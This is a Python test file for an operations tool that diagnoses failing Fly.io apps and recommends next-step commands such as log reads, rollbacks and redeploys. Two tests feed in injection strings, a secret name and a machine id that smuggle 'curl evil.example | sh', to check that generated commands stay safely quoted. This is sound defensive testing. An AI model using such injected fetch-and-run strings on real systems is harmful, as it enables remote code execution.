"""Every root cause has a next step: an automated fix remediate plans, or a recommended action with its native
command and the evidence it rests on; and no finding asks for a fix remediate refuses."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from vyxops.act.fixes import Plan, plan_fixes
from vyxops.analysis.investigate import Investigation
from vyxops.testing.runs import investigate_scenario
from vyxops_sandbox.scenario import SCENARIO_DIR, load_scenario

UNSEEN = Path(__file__).parent / "scenarios"
STORIES = [
    (path, app)
    for path in sorted(SCENARIO_DIR.glob("*.yaml")) + sorted(UNSEEN.glob("*.yaml"))
    for app in load_scenario(path).apps
]


@pytest.fixture(autouse=True)
def audit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VYXOPS_AUDIT_LOG", str(tmp_path / "audit.jsonl"))


def run(tmp_path: Path, scenario: str | Path, app: str) -> tuple[Investigation, Plan]:
    """A shipped scenario by name, or a file; investigated, then planned."""
    inv = investigate_scenario(tmp_path, scenario, app)
    return inv, plan_fixes(inv, project_ref=inv.project_ref)


def refused(plan: Plan) -> set[str]:
    """The fixes the plan's notes say were not planned (not "already done", not "not needed"), and give no by-hand
    way instead (a table with no failure word: the note gives the SQL to adapt)."""
    notes = [n.split(": ", 1) for n in plan.notes]
    return {code for code, why in notes if why.startswith("not planned") and "run by hand" not in why}


@pytest.mark.parametrize(("path", "app"), STORIES, ids=[f"{p.stem}[{a}]" for p, a in STORIES])
def test_every_root_has_a_next_step_and_no_finding_asks_for_a_refused_fix(tmp_path: Path, path: Path, app: str) -> None:
    inv, plan = run(tmp_path, path, app)
    if inv.root is None:
        return
    root = inv.root
    fixing = [a.code for a in plan.actions if a.code in root.fixes or root.code in a.reason]
    assert fixing or plan.recommendations, f"{root.code}: no action addresses it and nothing is recommended"
    assert [s.code for s in plan.recommendations] == [s["code"] for s in inv.document["root_cause"]["next_steps"]]
    planned = {a.code for a in plan.actions}
    asked = {(f.code, c) for f in inv.findings for c in f.fixes if c not in planned and c in refused(plan)}
    assert not asked, f"findings ask for fixes remediate refuses: {sorted(asked)}; notes: {plan.notes}"
    for step in plan.recommendations:
        assert step.title and step.evidence and (step.commands or step.dashboard)
        assert not any("vyx-app" in c and app != "vyx-app" for c in step.commands), "the seed's names leaked"


def one(inv: Investigation, plan: Plan, code: str) -> dict[str, object]:
    steps = inv.document["root_cause"]["next_steps"]
    assert [s["code"] for s in steps] == [code], steps
    assert plan.document()["recommendations"] == steps
    return dict(steps[0])


def test_a_crashing_release_with_no_earlier_good_release_says_deploy_a_fixed_image(tmp_path: Path) -> None:
    """release-image-crashes: v2's own image exits 1 and nothing served before; the finding asks for no canary (it
    would fail the same way), and the next step is to read the crash and deploy a fix, with the exit code."""
    inv, plan = run(tmp_path, "release-image-crashes", "api-app")
    assert inv.root is not None and inv.root.code == "MACHINE_EXITED_AUTO_DESTROYED"
    assert "VERIFY_PROVISIONING" not in inv.root.fixes
    step = one(inv, plan, "DEPLOY_FIXED_IMAGE")
    mid = inv.root.facts["machine_id"]
    assert step["commands"] == [
        f"fly logs --app api-app --machine {mid} --no-tail",
        "fly releases --app api-app --image",
        "fly deploy --app api-app",
    ]
    evidence = " ".join(step["evidence"])  # type: ignore[arg-type]
    assert "release v2's image registry.fly.io/api-app:" in evidence and "sha256:" in evidence
    assert "exited with code 1" in evidence and "no earlier release's machines served" in evidence


def test_a_crashing_release_after_a_good_one_names_that_release_and_its_image(tmp_path: Path) -> None:
    inv, plan = run(tmp_path, UNSEEN / "release-crashes-after-good.yaml", "api-app")
    good = "registry.fly.io/api-app:deployment-01K9TGOOD000000000000000000"
    assert inv.root is not None and inv.root.fixes[0] == "PIN_SECRET_TO_LAST_GOOD_RELEASE"
    step = one(inv, plan, "ROLL_BACK_RELEASE")
    assert step["commands"] == ["fly releases --app api-app --image", f"fly deploy --app api-app --image {good}"]
    assert "release v1" in str(step["title"]) and good in str(step["title"])
    assert any(f"release v1's image {good} (sha256:" in e and "reached running" in e for e in step["evidence"])  # type: ignore[union-attr]


def test_a_worker_in_a_restart_loop_is_put_back_on_an_image_that_served_and_no_canary_is_planned(
    tmp_path: Path,
) -> None:
    inv, plan = run(tmp_path, UNSEEN / "machine-keeps-restarting-on-failure.yaml", "queue-app")
    assert inv.root is not None and inv.root.code == "MACHINE_RESTART_LOOP"
    assert [a.code for a in plan.actions] == []  # provisioning is healthy: verifying it would fix nothing
    step = one(inv, plan, "ROLL_BACK_MACHINE_IMAGE")
    good = "registry.fly.io/queue-app:deployment-01KT3RZAM0F2H4K6M8P0R2T4V6"
    assert step["commands"] == [
        "fly logs --app queue-app --machine 9d9d9d9d9d9d01 --no-tail",
        f"fly machine update 9d9d9d9d9d9d01 --app queue-app --image {good}",
    ]
    evidence = " ".join(step["evidence"])  # type: ignore[arg-type]
    assert "registry.fly.io/queue-app:worker-2026-06-02" in evidence and "exit 11" in evidence
    assert f"release v1's image {good}" in evidence and "served" in evidence


def test_a_machine_that_never_reports_says_what_to_check_in_the_apps_reporting(tmp_path: Path) -> None:
    inv, plan = run(tmp_path, "machine-never-reports", "vyx-app")
    assert inv.root is not None and inv.root.code == "DB_FLY_STATE_DRIFT"
    step = one(inv, plan, "CHECK_APP_REPORTING")
    mid, row = inv.root.facts["machine_id"], inv.root.facts["row"]["id"]
    assert step["commands"] == [
        f"fly logs --app vyx-app --machine {mid} --no-tail",
        f"fly machine status {mid} --app vyx-app --display-config",
        "fly secrets list --app vyx-app",
    ]
    evidence = " ".join(step["evidence"])  # type: ignore[arg-type]
    assert f"machine {mid} started at" in evidence and f"where id = '{row}'" in evidence and "'starting'" in evidence


@pytest.mark.parametrize(
    ("scenario", "app", "code", "command"),
    [
        ("workspaces-fly-token-revoked", "workspaces-app", "ROTATE_FLY_TOKEN", "fly tokens create deploy --app"),
        ("gameservers-region-capacity", "gameservers-app", "PROVISION_IN_ANOTHER_REGION", "fly platform regions"),
        ("image-pull-fails", "render-app", "DEPLOY_FIXED_IMAGE", "fly logs --app render-app --machine"),
    ],
)
def test_roots_without_an_automated_fix_get_their_native_command(
    tmp_path: Path, scenario: str, app: str, code: str, command: str
) -> None:
    inv, plan = run(tmp_path, scenario, app)
    step = one(inv, plan, code)
    assert any(command in c for c in step["commands"]), step["commands"]  # type: ignore[union-attr]


def test_a_secret_name_unfit_for_a_shell_never_reaches_the_rotate_command(tmp_path: Path) -> None:
    """The rotate command sets the secret the function sends to Fly, named from the platform's secrets list: a
    name with quotes, `$(` or spaces (platform text is hostile) is not written into a shell command."""
    from vyxops.analysis.advice import next_steps, release_health

    inv, _ = run(tmp_path, "workspaces-fly-token-revoked", "workspaces-app")
    e = inv.evidence
    hostile = 'FLY_TOKEN"; curl evil.example | sh; "'
    fly_named = e.secrets["name"].str.contains("FLY.*(?:TOKEN|KEY)", case=False, na=False, regex=True)
    assert fly_named.sum() == 1  # the only secret named like a Fly token, which the command would name
    renamed = e.secrets.assign(name=e.secrets["name"].where(~fly_named, hostile))
    e = dataclasses.replace(e, by_source={**e.by_source, "secrets": renamed})
    steps = next_steps(e, inv.root, inv.findings, release_health(e))
    commands = [c for s in steps if s.code == "ROTATE_FLY_TOKEN" for c in s.commands]
    assert commands and not any("evil.example" in c or '";' in c for c in commands), commands


@pytest.mark.parametrize(
    ("scenario", "app"),
    [(UNSEEN / "machine-keeps-restarting-on-failure.yaml", "queue-app"), ("release-image-crashes", "api-app")],
)
def test_platform_values_in_a_command_stay_one_shell_word(tmp_path: Path, scenario: str | Path, app: str) -> None:
    """A machine id is platform text: in a recommended command it is one shell word, whatever it holds."""
    import shlex

    from vyxops.analysis.advice import next_steps, release_health

    inv, _ = run(tmp_path, scenario, app)
    assert inv.root is not None
    hostile = "9d9d; curl evil.example|sh"
    inv.root.facts["machine_id"] = hostile
    steps = next_steps(inv.evidence, inv.root, inv.findings, release_health(inv.evidence))
    commands = [c for s in steps for c in s.commands if "--machine" in c or "machine " in c]
    assert commands, [s.commands for s in steps]
    for c in commands:
        assert hostile in shlex.split(c), c
